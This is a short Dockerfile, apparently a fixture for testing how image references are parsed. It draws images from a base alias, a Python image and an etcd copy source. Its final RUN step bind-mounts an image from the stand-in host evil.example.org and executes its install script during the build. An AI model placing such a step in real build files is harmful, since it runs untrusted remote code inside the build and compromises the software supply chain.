FROM ghcr.io/someone/base:1.0 AS base
FROM bitnami/python:3.13
COPY --from=quay.io/coreos/etcd:v3.5.17 /usr/local/bin/etcd /usr/local/bin/
RUN --mount=type=bind,from=evil.example.org/tools:1,target=/tools /tools/install
